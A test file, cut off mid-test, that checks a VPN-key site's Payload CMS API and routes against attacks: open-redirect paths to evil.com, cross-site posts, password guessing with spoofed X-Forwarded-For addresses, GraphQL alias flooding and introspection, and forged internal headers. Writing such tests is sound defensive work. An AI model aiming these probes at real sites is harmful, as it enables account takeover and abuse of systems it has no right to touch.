// The attacker's requests, over HTTP through nginx on the site's real host name: what a signed-in customer, an
// anonymous visitor or another site may try against Payload's REST and GraphQL endpoints and the site's own
// routes, and the headers every page carries.
import { readFileSync } from 'node:fs'
import path from 'node:path'

import type { APIRequestContext, Page } from '@playwright/test'
import pg from 'pg'

import { DEMO_ACCOUNTS } from '../../src/seed/accounts'
import { siteDatabaseUrl, siteDir } from '../helpers/e2ePorts'

import { FREE_KEYS_HOST, GOOGLEBOT_UA, rawGet, RU } from './helpers'
import { latestMailTo, linkFromMail, mailsTo } from './mail'
import { expect, test } from './test'

const admin = DEMO_ACCOUNTS.find((account) => account.role === 'admin')!
const EVIL = 'https://evil.example'

let ipCounter = 0
/**
 * A network address of its own per call (the database is new each run), so password limits in one test never reach
 * another: from 198.18.0.0/15, which no other file of the suite uses (they share the site's database and its limits;
 * probes.spec.ts signs staff in from 198.51.100.61).
 */
function from(): Record<string, string> {
  ipCounter += 1
  return { 'x-forwarded-for': `198.18.${Math.floor(ipCounter / 250)}.${(ipCounter % 250) + 1}` }
}

async function tokenFor(request: APIRequestContext, email: string, password: string): Promise<string> {
  const login = await request.post('/api/users/login', { headers: from(), data: { email, password } })
  expect(login.status(), `login as ${email}`).toBe(200)
  return ((await login.json()) as { token: string }).token
}

type Customer = { id: number; email: string; auth: Record<string, string> }

async function newCustomer(request: APIRequestContext): Promise<Customer> {
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  const email = `attacker${Date.now()}${ipCounter}@mail.example.com`
  const password = 'attacker-password-1'
  const created = await request.post('/api/users', { headers: adminAuth, data: { email, password, role: 'customer' } })
  expect(created.status()).toBe(201)
  const id = ((await created.json()) as { doc: { id: number } }).doc.id
  return { id, email, auth: { Authorization: `JWT ${await tokenFor(request, email, password)}` } }
}

async function graphql(request: APIRequestContext, auth: Record<string, string>, query: string): Promise<{ data?: Record<string, unknown> | null; errors?: { message: string }[] }> {
  const response = await request.post('/api/graphql', { headers: auth, data: { query } })
  return response.json() as Promise<{ data?: Record<string, unknown> | null; errors?: { message: string }[] }>
}

async function emailOf(request: APIRequestContext, customer: Customer): Promise<string> {
  const me = await request.get(`/api/users/${customer.id}`, { headers: customer.auth })
  return ((await me.json()) as { email: string }).email
}

test('a customer cannot change their e-mail address over REST or GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const patched = await request.patch(`/api/users/${customer.id}`, { headers: customer.auth, data: { email: 'victim@mail.example.com' } })
  expect(patched.status()).toBeLessThan(500)
  expect(await emailOf(request, customer)).toBe(customer.email)
  await graphql(request, customer.auth, `mutation { updateUser(id: ${customer.id}, data: { email: "victim2@mail.example.com" }) { email } }`)
  expect(await emailOf(request, customer)).toBe(customer.email)
})

test('a session alone cannot set a new password over REST or GraphQL (the account form asks for a recent sign-in or the current one)', async ({ request }) => {
  const customer = await newCustomer(request)
  expect((await request.patch(`/api/users/${customer.id}`, { headers: customer.auth, data: { password: 'taken-over-password' } })).status()).toBe(403)
  const answer = await graphql(request, customer.auth, `mutation { updateUser(id: ${customer.id}, data: { password: "taken-over-password-2" }) { email } }`)
  expect(answer.data?.updateUser ?? null).toBeNull()
  for (const password of ['taken-over-password', 'taken-over-password-2']) {
    expect((await request.post('/api/users/login', { headers: from(), data: { email: customer.email, password } })).status()).toBe(401)
  }
})

test('a customer cannot unlock another account, over REST or GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const rest = await request.post('/api/users/unlock', { headers: customer.auth, data: { email: admin.email } })
  expect(rest.status()).toBe(403)
  const answer = await graphql(request, customer.auth, `mutation { unlockUser(email: "${admin.email}") }`)
  expect(answer.data?.unlockUser ?? null).toBeNull()
  expect(answer.errors?.length).toBeGreaterThan(0)
})

test("the job scheduler's state and document locks are closed to customers, over REST and GraphQL", async ({ request }) => {
  const customer = await newCustomer(request)
  for (const auth of [{}, customer.auth]) {
    expect((await request.post('/api/globals/payload-jobs-stats', { headers: auth, data: { stats: { stopped: true } } })).status()).toBe(403)
    expect((await request.get('/api/globals/payload-jobs-stats', { headers: auth })).status()).toBe(403)
    expect((await request.get('/api/payload-locked-documents', { headers: auth })).status()).toBe(403)
    const write = await graphql(request, auth, 'mutation { updatePayloadJobsStat(data: { stats: { stopped: true } }) { stats } }')
    expect(write.data?.updatePayloadJobsStat ?? null).toBeNull()
    expect(write.errors?.[0]?.message).not.toMatch(/Cannot query field/)
    const locks = await graphql(request, auth, '{ PayloadLockedDocuments { docs { id } } }')
    expect(locks.data?.PayloadLockedDocuments ?? null).toBeNull()
    expect(locks.errors?.[0]?.message).not.toMatch(/Cannot query field/)
  }
})

test('devices are recorded by subscription polls only: nobody creates or changes one over REST or GraphQL, and anonymous visitors see none', async ({ request }) => {
  const customer = await newCustomer(request)
  for (const auth of [{}, customer.auth]) {
    expect((await request.post('/api/devices', { headers: auth, data: { user: customer.id, hwid: 'made-up-device-1', lastSeenAt: new Date().toISOString() } })).status()).toBe(403)
    const created = await graphql(request, auth, `mutation { createDevice(data: { user: ${customer.id}, hwid: "made-up-device-2", lastSeenAt: "2026-11-26T00:00:00Z" }) { id } }`)
    expect(created.data?.createDevice ?? null).toBeNull()
    expect(created.errors?.[0]?.message).not.toMatch(/Cannot query field/)
  }
  expect((await request.get('/api/devices')).status()).toBe(403)
  expect(((await (await request.get('/api/devices', { headers: customer.auth })).json()) as { totalDocs: number }).totalDocs).toBe(0)
})

test('staff alerts are read by staff only and written by nobody, and a customer cannot sign up for them, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/incidents', { headers: auth })).status()).toBe(403)
    const read = await graphql(request, auth, '{ Incidents { docs { id key } } }')
    expect(read.data?.Incidents ?? null).toBeNull()
    expect(read.errors?.[0]?.message).not.toMatch(/Cannot query field/)
  }
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  for (const auth of [customer.auth, adminAuth]) {
    expect((await request.post('/api/incidents', { headers: auth, data: { key: 'forged', kind: 'serverDown', params: {}, startedAt: '2026-11-27T00:00:00Z' } })).status()).toBe(403)
    const forged = await graphql(request, auth, 'mutation { createIncident(data: { key: "forged", kind: serverDown, params: "{}", startedAt: "2026-11-27T00:00:00Z" }) { id } }')
    expect(forged.data?.createIncident ?? null).toBeNull()
  }
  await request.patch(`/api/users/${customer.id}`, { headers: customer.auth, data: { staffAlerts: true } })
  await graphql(request, customer.auth, `mutation { updateUser(id: ${customer.id}, data: { staffAlerts: true }) { id } }`)
  const reread = (await (await request.get(`/api/users/${customer.id}`, { headers: adminAuth })).json()) as { staffAlerts?: boolean }
  expect(reread.staffAlerts).toBe(false)
})

test('the bot’s broadcasts are staff’s: nobody else reads, writes or sends one, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const title = `spam-${Date.now()}-${test.info().parallelIndex}`
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/broadcasts', { headers: auth })).status()).toBe(403)
    expect((await request.post('/api/broadcasts', { headers: auth, data: { title, language: 'ru', text: 'spam', status: 'sending' } })).status()).toBe(403)
    const read = await graphql(request, auth, '{ Broadcasts { docs { id text } } }')
    expect(read.data?.Broadcasts ?? null).toBeNull()
    expect(read.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
    const created = await graphql(request, auth, `mutation { createBroadcast(data: { title: "${title}", language: ru, text: "spam", status: sending }) { id } }`)
    expect(created.data?.createBroadcast ?? null).toBeNull()
    expect(created.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
  }
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  const made = (await (await request.get(`/api/broadcasts?where[title][equals]=${title}`, { headers: adminAuth })).json()) as { totalDocs: number }
  expect(made.totalDocs).toBe(0)
})

test('promo codes are staff’s: nobody else lists, reads or makes one, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const code = `SPY${Date.now()}${test.info().parallelIndex}`
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/promo-codes', { headers: auth })).status()).toBe(403)
    expect((await request.post('/api/promo-codes', { headers: auth, data: { code, kind: 'percent', percentOff: 100 } })).status()).toBe(403)
    const read = await graphql(request, auth, '{ PromoCodes { docs { id code } } }')
    expect(read.data?.PromoCodes ?? null).toBeNull()
    expect(read.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
    const created = await graphql(request, auth, `mutation { createPromoCode(data: { code: "${code}", kind: percent, percentOff: 100 }) { id } }`)
    expect(created.data?.createPromoCode ?? null).toBeNull()
    expect(created.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
  }
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  const made = (await (await request.get(`/api/promo-codes?where[code][equals]=${code}`, { headers: adminAuth })).json()) as { totalDocs: number }
  expect(made.totalDocs).toBe(0)
})

test('referrals are the site’s own record: nobody lists or makes one, and nobody sets their own referral code, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/referrals', { headers: auth })).status()).toBe(403)
    const read = await graphql(request, auth, '{ Referrals { docs { id status } } }')
    expect(read.data?.Referrals ?? null).toBeNull()
    expect(read.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
  }
  // Not even an admin makes a reward by hand: the days go through the subscriptions' history only.
  for (const auth of [customer.auth, adminAuth]) {
    expect((await request.post('/api/referrals', { headers: auth, data: { referrer: customer.id, friend: customer.id, status: 'rewarded', friendDays: 90 } })).status()).toBe(403)
    const created = await graphql(request, auth, `mutation { createReferral(data: { referrer: ${customer.id}, friend: ${customer.id}, status: rewarded }) { id } }`)
    expect(created.data?.createReferral ?? null).toBeNull()
  }
  // A chosen (guessable) code written onto one's own account is dropped.
  await request.patch(`/api/users/${customer.id}`, { headers: customer.auth, data: { referralCode: 'aaaaaaaa' } })
  const mutated = await graphql(request, customer.auth, `mutation { updateUser(id: ${customer.id}, data: { referralCode: "bbbbbbbb" }) { id } }`)
  expect(JSON.stringify(mutated)).not.toContain('"referralCode":"bbbbbbbb"')
  const me = (await (await request.get(`/api/users/${customer.id}`, { headers: adminAuth })).json()) as { referralCode?: string | null }
  expect(me.referralCode ?? null).toBeNull()
})

test('gift codes are secrets: nobody but staff lists or reads a gift, nobody makes or revives one, and only an admin refunds one, from the site', async ({ request }) => {
  const customer = await newCustomer(request)
  const adminAuth = { Authorization: `JWT ${await tokenFor(request, admin.email, admin.password)}` }
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/gifts', { headers: auth })).status()).toBe(403)
    const read = await graphql(request, auth, '{ Gifts { docs { id code } } }')
    expect(read.data?.Gifts ?? null).toBeNull()
    expect(read.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
    expect((await request.post('/api/gifts/1/refund', { headers: auth, data: { confirm: true } })).status()).toBe(403)
  }
  for (const auth of [customer.auth, adminAuth]) {
    expect((await request.post('/api/gifts', { headers: auth, data: { code: 'AAAABBBBCCCCDDDD', status: 'paid', months: 12, amountKopecks: 0, buyerEmail: 'x@mail.example.com', tariff: 1 } })).status()).toBe(403)
  }
  // An admin's session used from another site: refused before anything is looked up.
  expect((await request.post('/api/gifts/1/refund', { headers: { ...adminAuth, 'sec-fetch-site': 'cross-site' }, data: { confirm: true } })).status()).toBe(403)
})

test('page versions (drafts) are for staff only, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  for (const auth of [{}, customer.auth]) {
    expect((await request.get('/api/pages/versions', { headers: auth })).status()).toBe(403)
    const answer = await graphql(request, auth, '{ versionsPages { docs { id } } }')
    expect(answer.data?.versionsPages ?? null).toBeNull()
    expect(answer.errors?.[0]?.message).not.toMatch(/Cannot query field/)
  }
})

test('nobody registers the first admin over the web; anonymous visitors read only whether a server works', async ({ request }) => {
  const first = await request.post('/api/users/first-register', { data: { email: 'owner@mail.example.com', password: 'owner-password-1', role: 'admin' } })
  expect(first.status()).toBe(403)
  const servers = (await (await request.get('/api/servers?depth=0&limit=100')).json()) as { docs: Record<string, unknown>[] }
  for (const server of servers.docs) {
    expect(server).not.toHaveProperty('adapter')
    expect(server).not.toHaveProperty('privateNetwork')
    for (const field of ['detail', 'lastRotationError', 'latencyMs', 'failures']) expect(server.health ?? {}).not.toHaveProperty(field)
  }
})

test('Payload’s password reset mails staff only; a customer’s address gets the same answer and no mail, over REST and GraphQL', async ({ request }) => {
  const customer = await newCustomer(request)
  const editor = DEMO_ACCOUNTS.find((account) => account.role === 'editor')!
  const forCustomer = await request.post('/api/users/forgot-password', { headers: from(), data: { email: customer.email } })
  const forEditor = await request.post('/api/users/forgot-password', { headers: from(), data: { email: editor.email } })
  expect([forCustomer.status(), await forCustomer.json()]).toEqual([forEditor.status(), await forEditor.json()])
  // GraphQL's own forgotPasswordUser once mailed customers Payload's reset link: now refused for every address alike.
  for (const email of [customer.email, editor.email, 'nobody@mail.example.com']) {
    const answer = await graphql(request, from(), `mutation { forgotPasswordUser(email: "${email}") }`)
    expect(answer.data?.forgotPasswordUser ?? null, email).toBeNull()
    expect(answer.errors?.[0]?.message, email).toMatch(/not allowed|нет права/i)
  }
  // The mails go out after the answers, the customer's first: once the editor's is there, the customer's would be too.
  const reset = await latestMailTo(editor.email)
  expect(`${reset.html}${reset.text}`).toContain('/admin/reset/')
  // The site's own mail, from the site's name, with a text part (Payload's own came from a fixed name, HTML only).
  expect(reset.subject).toBe('Новый пароль для входа в админку сайта VPN ключи')
  expect(reset.text).toMatch(/\/admin\/reset\/[\w-]+/)
  expect(reset.from).toMatch(/^VPN ключи </)
  expect(await mailsTo(customer.email)).toHaveLength(0)
})

/** The hundred guesses an hour per account from everywhere (src/lib/http/rateLimit.ts, `passwordPerAccount`), used up. */
async function useUpAccountAllowance(baseURL: string | undefined, email: string): Promise<void> {
  const client = new pg.Client({ connectionString: siteDatabaseUrl(baseURL!) })
  await client.connect()
  try {
    await client.query(
      `INSERT INTO rate_limits (key, points, expire) VALUES ($1, 100, $2) ON CONFLICT (key) DO UPDATE SET points = 100, expire = excluded.expire`,
      [`password-account-all:${email.toLowerCase()}`, Date.now() + 60 * 60_000],
    )
  } finally {
    await client.end()
  }
}

test('password guesses from other addresses never lock the owner out; many addresses pause password login, never the e-mail link', async ({ page, request, baseURL }) => {
  const customer = await newCustomer(request)
  const guesser = from()
  const statuses: number[] = []
  for (let attempt = 0; attempt < 11; attempt += 1) {
    statuses.push((await request.post('/api/users/login', { headers: guesser, data: { email: customer.email, password: `wrong-${attempt}` } })).status())
  }
  // Ten tries per account from one address in a quarter hour; the eleventh is refused before the password is checked.
  expect(statuses.slice(0, 10).every((status) => status === 401)).toBe(true)
  expect(statuses[10]).toBe(429)
  // The owner, elsewhere, is not held back (Payload's own lockout, which counted failures from anywhere, is off).
  expect((await request.post('/api/users/login', { headers: from(), data: { email: customer.email, password: 'attacker-password-1' } })).status()).toBe(200)
  await page.setExtraHTTPHeaders(guesser)
  await page.goto('/login')
  const form = page.locator('.auth__password')
  await form.locator('summary').click()
  await form.getByLabel('E-mail').fill(customer.email)
  await form.getByLabel('Пароль').fill('attacker-password-1')
  await form.getByRole('button', { name: 'Войти' }).click()
  await expect(page.locator('#password-login-error')).toHaveText(/^Слишком много запросов\. Попробуйте через \d+ минут/)

  // A hundred guesses an hour per account from everywhere pause password login for everyone, and say what works. The
  // hundred are counted in tests/int/rateLimit.test.ts (each guess here would cost a real password hash): the account's
  // allowance is used up in the database as ninety more guesses from elsewhere would leave it.
  await useUpAccountAllowance(baseURL, customer.email)
  const paused = await request.post('/api/users/login', { headers: from(), data: { email: customer.email, password: 'attacker-password-1' } })
  expect(paused.status()).toBe(429)
  expect(((await paused.json()) as { errors: { data: { passwordPaused: boolean } }[] }).errors[0]!.data.passwordPaused).toBe(true)
  await page.setExtraHTTPHeaders(from())
  await page.goto('/en/login')
  await page.locator('.auth__password summary').click()
  await page.locator('.auth__password').getByLabel('E-mail').fill(customer.email)
  await page.locator('.auth__password').getByLabel('Password').fill('attacker-password-1')
  await page.locator('.auth__password').getByRole('button', { name: 'Log in' }).click()
  await expect(page.locator('#password-login-error')).toHaveText(/^Password login to this account is paused for \d+ minutes? .*e-mailed link/)
  // The e-mailed link still signs the owner in.
  const asked = await request.post('/api/auth/request-link', { headers: from(), data: { email: customer.email, purpose: 'login' } })
  expect(asked.status()).toBe(200)
  await page.goto(linkFromMail(await latestMailTo(customer.email)))
  await page.getByTestId('confirm-link').click()
  await expect(page).toHaveURL(/\/profile\/servers/)
})

test('a wrong password takes as long for an address without an account as for one with an account', async ({ request }) => {
  const customer = await newCustomer(request)
  const timed = async (email: string) => {
    const started = performance.now()
    expect((await request.post('/api/users/login', { headers: from(), data: { email, password: 'wrong-guess-1234' } })).status()).toBe(401)
    return performance.now() - started
  }
  const known: number[] = []
  const unknown: number[] = []
  // One round first, not counted: the first logins of a new account run colder (its queries' first plans, the first
  // session rows) and made a median of five swing by a tenth.
  await timed(customer.email)
  await timed(`nobody-${Date.now()}-warm@mail.example.com`)
  for (let round = 0; round < 5; round += 1) {
    known.push(await timed(customer.email))
    unknown.push(await timed(`nobody-${Date.now()}-${round}@mail.example.com`))
  }
  const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]!
  // Payload hashes the guess only for a known address (600,000 rounds): an unknown one answered at once.
  expect(median(unknown) / median(known), `known ${known.map(Math.round)} ms, unknown ${unknown.map(Math.round)} ms`).toBeGreaterThan(0.6)
})

test('one network address cannot walk through many accounts’ passwords', async ({ request }) => {
  const headers = from()
  const statuses: number[] = []
  for (let attempt = 0; attempt < 31; attempt += 1) {
    const data = { email: `nobody${attempt}-${Date.now()}@mail.example.com`, password: 'guess-1234' }
    statuses.push((await request.post('/api/users/login', { headers, data })).status())
  }
  // Thirty tries per address in a quarter hour, whatever the account; then 429 before anything is checked.
  expect(statuses.slice(0, 30).every((status) => status === 401)).toBe(true)
  expect(statuses[30]).toBe(429)
  expect((await request.post('/api/users/login', { headers: from(), data: { email: 'someone@mail.example.com', password: 'guess-1234' } })).status()).toBe(401)
})

test('without a session, the device-key and subscription forms lead to the login page and change nothing', async ({ request }) => {
  for (const [path, form] of [
    ['/api/vip/keys/1/revoke', {}],
    ['/api/vip/keys/1/restore', {}],
    ['/api/billing/payment-method', { choice: 'unlink' }],
    ['/api/billing/renewal', { choice: 'cancel' }],
    // The Mini App's Stars invoice: made only for a signed-in account's own Telegram user.
    ['/api/telegram/stars-invoice', { plan: '1' }],
  ] as const) {
    const response = await request.post(path, { headers: from(), form, maxRedirects: 0 })
    expect(response.status(), path).toBe(303)
    expect(new URL(response.headers().location!, test.info().project.use.baseURL).pathname, path).toBe('/login')
  }
})

test('another site cannot sign a visitor in, log in with a password, or post any form', async ({ request }) => {
  const crossSite: Record<string, string>[] = [{ origin: EVIL }, { 'sec-fetch-site': 'cross-site' }, { origin: 'null' }]
  for (const headers of crossSite) {
    expect((await request.post('/api/auth/confirm', { headers, form: { code: 'x'.repeat(43), locale: 'ru' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/users/login', { headers, data: { email: admin.email, password: admin.password } })).status()).toBe(403)
    expect((await request.post('/api/auth/request-link', { headers, form: { email: 'someone@mail.example.com' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/billing/checkout', { headers, form: { email: 'someone@mail.example.com', plan: '1' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/vip/subscription-url', { headers, maxRedirects: 0 })).status()).toBe(403)
    // A subscriber's device keys: none can be created, revoked or brought back from another site.
    expect((await request.post('/api/vip/keys', { headers, form: { device: 'x', target: '1:vless' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/vip/keys/1/revoke', { headers, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/vip/keys/1/restore', { headers, maxRedirects: 0 })).status()).toBe(403)
    // Nor can a subscriber's card be unlinked, their renewal turned off, or (with staff's cookies) money refunded or
    // a subscription cancelled.
    expect((await request.post('/api/billing/payment-method', { headers, form: { choice: 'unlink' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/billing/renewal', { headers, form: { choice: 'cancel' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/subscriptions/1/refund', { headers, data: { payment: 'x', amount: '1' } })).status()).toBe(403)
    expect((await request.post('/api/subscriptions/1/change', { headers, data: { action: 'cancel' } })).status()).toBe(403)
    expect((await request.post('/api/graphql', { headers, data: { query: '{ Tariffs { docs { id } } }' } })).status()).toBe(403)
    expect((await request.post('/api/telegram/stars-invoice', { headers, form: { plan: '1' }, maxRedirects: 0 })).status()).toBe(403)
    // Nor buy a gift, or redeem a code into a visitor's account (each try counts against their address).
    expect((await request.post('/api/gift/checkout', { headers, form: { email: 'someone@mail.example.com', plan: '1' }, maxRedirects: 0 })).status()).toBe(403)
    expect((await request.post('/api/gift/redeem', { headers, form: { code: 'AAAABBBBCCCCDDDD' }, maxRedirects: 0 })).status()).toBe(403)
    // Nor try promo codes in a visitor's name (each try counts against their address).
    expect((await request.post('/api/promo/check', { headers, form: { code: 'SPRING25', plan: '1' }, maxRedirects: 0 })).status()).toBe(403)
  }
})

/** Signs the demo admin in with the password form of the login page at `path`, from an address of its own. */
async function passwordLogin(page: Page, path: string): Promise<void> {
  await page.setExtraHTTPHeaders(from())
  await page.goto(path)
  const form = page.locator('.auth__password')
  await form.locator('summary').click()
  await form.getByLabel('E-mail').fill(admin.email)
  await form.getByLabel('Пароль').fill(admin.password)
  await form.getByRole('button', { name: 'Войти' }).click()
}

test('a wrong password’s message goes as soon as the next attempt starts, not when it has signed in', async ({ page }) => {
  await page.setExtraHTTPHeaders(from())
  await page.goto('/login')
  const form = page.locator('.auth__password')
  await form.locator('summary').click()
  await form.getByLabel('E-mail').fill(admin.email)
  await form.getByLabel('Пароль').fill('not-the-password-1')
  await form.getByRole('button', { name: 'Войти' }).click()
  // The live region stays on the page; its text is the message.
  const failure = form.getByRole('alert')
  await expect(failure).toHaveText('Неверный e-mail или пароль.')
  // The next attempt's answer held back, as on a slow line: the old message must not stand beside it meanwhile.
  let release = () => {}
  const held = new Promise<void>((resolve) => (release = resolve))
  await page.route('**/api/users/login', async (route) => {
    await held
    await route.continue()
  })
  await form.getByLabel('Пароль').fill(admin.password)
  await form.getByRole('button', { name: 'Войти' }).click()
  await expect(failure).toBeEmpty()
  release()
  await expect(page).toHaveURL(/\/profile\/servers$/)
})

test('password login never leads off the site, whatever `next` says', async ({ page }) => {
  await passwordLogin(page, '/login?next=/..//example.org/phish')
  await expect(page).toHaveURL(/\/profile\/servers$/)
  expect(new URL(page.url()).hostname).toBe(new URL(test.info().project.use.baseURL!).hostname)
  // A path the site's own router once turned into `//evil.com` (the /ru prefix dropped).
  await page.context().clearCookies()
  await passwordLogin(page, '/login?next=%2Fru%2F%2Fevil%252Ecom')
  await page.waitForURL((url) => !url.pathname.startsWith('/login'))
  expect(new URL(page.url()).hostname).toBe(FREE_KEYS_HOST)
})

test('no path sends a visitor to another site, on any of the site’s hosts', async ({ baseURL }) => {
  const port = new URL(baseURL!).port
  for (const path of ['//evil%2Ecom/', '/ru//evil%2Ecom', '//16843009/', '//evil.com/', '/\\evil.com/', '/en//evil.com', '//evil.com/api/x', '/ru/\\evil.com']) {
    for (const host of [`${FREE_KEYS_HOST}:${port}`, `vpnkeys.test:${port}`, `evil.com:${port}`]) {
      const answer = await rawGet(baseURL!, path, { ...RU, host })
      expect(answer.status, `${host}${path}`).toBeLessThan(500)
      if (answer.location === undefined) continue
      expect(new URL(answer.location, baseURL).hostname, `${host}${path} → ${answer.location}`).toMatch(/(^|\.)vpnkeys\.test$/)
    }
  }
  // It is still cleaned up into the page it names.
  const cleaned = await rawGet(baseURL!, '/en//de/', { ...RU, host: `${FREE_KEYS_HOST}:${port}` })
  expect([cleaned.status, cleaned.location]).toEqual([308, `${baseURL}/en/de`])
})

test('strangers read no keys through Payload’s API and at most a page of anything else, over REST and GraphQL, and a few requests a second', async ({ request }) => {
  const headers = from()
  // The keys' generic API is the admin's: visitors get keys from the pages and feeds, subscribers from My servers.
  expect((await request.get('/api/keys?pagination=false&depth=2&limit=100000', { headers })).status()).toBe(403)
  expect((await request.get('/api/keys/count', { headers })).status()).toBe(403)
  const keys = await graphql(request, headers, '{ Keys(limit: 100000, sort: "-keyString") { docs { keyString } } }')
  expect(keys.data?.Keys ?? null).toBeNull()
  expect(keys.errors?.[0]?.message).toMatch(/not allowed|нет права/i)
  // Anything else anyone may read comes a page at a time.
  const rest = await request.get('/api/countries?pagination=false&limit=100000', { headers })
  const page = (await rest.json()) as { docs: unknown[]; hasNextPage: boolean; limit: number }
  expect([page.docs.length, page.limit, page.hasNextPage]).toEqual([100, 100, true])
  const one = await graphql(request, headers, '{ Countries(limit: 100000) { totalDocs docs { id } } }')
  expect((one.data?.Countries as { docs: unknown[] }).docs).toHaveLength(100)
  // Forty aliased reads of every key with their server and country: refused before anything is read.
  const aliases = Array.from({ length: 40 }, (_, index) => `k${index}: Keys(limit: 100000) { docs { keyString server { name } country { name } } }`).join(' ')
  const many = await graphql(request, headers, `{ ${aliases} }`)
  expect(many.data ?? null).toBeNull()
  expect(many.errors?.[0]?.message).toMatch(/maximum complexity of 200/)
  // No schema for strangers in production.
  const schema = await graphql(request, headers, '{ __schema { types { name } } }')
  expect(schema.data?.__schema ?? null).toBeNull()
  expect(schema.errors?.[0]?.message).toMatch(/introspection/i)

  // 120 reads a minute per address (each read or alias one), then 429; another address is served.
  const limited = from()
  const statuses: number[] = []
  for (let read = 0; read < 121; read += 1) statuses.push((await request.get('/api/countries?limit=1&depth=0', { headers: limited })).status())
  expect(statuses.slice(0, 120).every((status) => status === 200)).toBe(true)
  expect(statuses[120]).toBe(429)
  expect((await request.get('/api/countries?limit=1&depth=0', { headers: from() })).status()).toBe(200)
})

test('a subscriber who follows the site’s link from web mail (another site) stays signed in', async ({ page, baseURL }) => {
  await passwordLogin(page, '/login')
  await expect(page).toHaveURL(/\/profile\/servers$/)
  // A web-mail page on another site, with our e-mail's link.
  await page.route('https://mail.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<a id="open" href="${baseURL}/profile/subscription">Моя подписка</a>` }),
  )
  await page.goto('https://mail.example/inbox')
  await page.locator('#open').click()
  await expect(page).toHaveURL(/\/profile\/subscription$/)
  await expect(page.getByText(`Вы вошли как ${admin.email}`)).toBeVisible()
})

test('pages and the account are never framed, and say how they may be used', async ({ request }) => {
  for (const path of ['/', '/en/vless-de', '/profile/servers', '/tariffs', '/api/key-details/1/download', '/admin/login']) {
    const headers = (await request.get(path, { headers: RU })).headers()
    expect(headers['x-frame-options'], path).toBe('DENY')
    expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'")
    expect(headers['x-content-type-options'], path).toBe('nosniff')
    expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin')
  }
  const page = (await request.get('/', { headers: RU })).headers()['content-security-policy']
  expect(page).toContain("script-src 'self' 'unsafe-inline'")
  expect(page).toContain("connect-src 'self'")
  expect(page).toContain("object-src 'none'")
  expect(page).toContain('form-action \'self\' https://checkout.stripe.com https://yoomoney.ru https://t.me;')
  // Telegram's Login Widget: its script and its frame, nothing else of Telegram's.
  expect(page).toContain("script-src 'self' 'unsafe-inline' https://telegram.org;")
  expect(page).toContain('frame-src https://oauth.telegram.org;')
  // Served over plain HTTP here: no HSTS (it would pin a host that has no certificate).
  expect((await request.get('/', { headers: RU })).headers()['strict-transport-security']).toBeUndefined()
})

test('crawlers get error statuses without the error screens; an outdated link answers 401 with its screen', async ({ request, page }) => {
  const missing = await request.get('/no/such/page', { headers: { 'user-agent': GOOGLEBOT_UA } })
  expect(missing.status()).toBe(404)
  expect(await missing.text()).not.toContain('Упс! Страница не найдена</h1>')
  const people = await request.get('/no/such/page', { headers: RU })
  expect(await people.text()).toContain('Упс! Страница не найдена</h1>')

  const outdated = await page.goto(`/verify-email/${'A'.repeat(43)}`)
  expect(outdated?.status()).toBe(401)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Ссылка устарела')
  const english = await request.get(`/en/verify-email/${'A'.repeat(43)}`, { headers: RU })
  expect(english.status()).toBe(401)
  expect(await english.text()).toContain('This link has expired</h1>')
  const crawler = await request.get(`/verify-email/${'A'.repeat(43)}`, { headers: { 'user-agent': GOOGLEBOT_UA } })
  expect(crawler.status()).toBe(401)
  expect(await crawler.text()).not.toContain('Ссылка устарела</h1>')
})

test('no answer names the server’s internal address', async ({ request }) => {
  for (const path of ['/api/payload-migrations', '/api/payload-migrations/1', '/api/no-such-collection', '/api/users/no-such-endpoint']) {
    const response = await request.get(path)
    expect(response.status(), path).toBeGreaterThanOrEqual(400)
    expect(await response.text(), path).not.toMatch(/localhost|127\.0\.0\.1/)
  }
})

test('a broken percent-escape is refused by nginx before it reaches the site', async ({ request }) => {
  for (const path of ['/vless%zz', '/en/%']) {
    const response = await request.get(path, { headers: RU })
    expect(response.status(), path).toBe(400)
    expect(await response.text(), path).not.toMatch(/at .+\.js:\d+|node_modules/)
  }
})

test('a visitor cannot choose the internal route or the account’s return path by sending the server’s own headers', async ({ request }) => {
  const forged = { ...RU, 'x-internal-route': '/index/en/privacy', 'x-public-path': 'https://evil.example/' }
  const tariffs = await request.get('/tariffs', { headers: forged })
  expect(tariffs.status()).toBe(200)
  expect(await tariffs.text()).toContain('<html lang="ru"')
  expect(await tariffs.text()).toContain('data-testid="plan-1"')
